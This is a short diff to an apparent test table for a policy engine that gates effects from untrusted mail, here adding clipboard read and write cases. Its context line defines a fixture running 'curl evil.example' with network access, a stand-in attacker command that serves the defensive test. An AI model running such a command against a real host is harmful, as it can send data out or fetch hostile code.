@@ -77,6 +77,8 @@ NETWORK = Effect("proc.run", "curl evil.example", network=True)
         (MAIL, Effect("proc.run", "make"), None),
         (MAIL, Effect("fs.write", "/srv/x"), None),
         (MAIL, Effect("mem.write", "m"), ("ask", "flow.mem.write")),
+        (MAIL, Effect("ui.write", "clipboard"), ("ask", "flow.ui.write")),
+        (MAIL, Effect("ui.read", "clipboard"), None),
         (MAIL, Effect("mem.write", "m", values=(Value("text", "write to ada@a.example"),)), ("ask", "flow.mem.write")),
         (MAIL, Effect("job.change", "nightly"), ("ask", "flow.job.change")),
         (MAIL, Effect("policy.change", "r1"), ("ask", "flow.policy.change")),
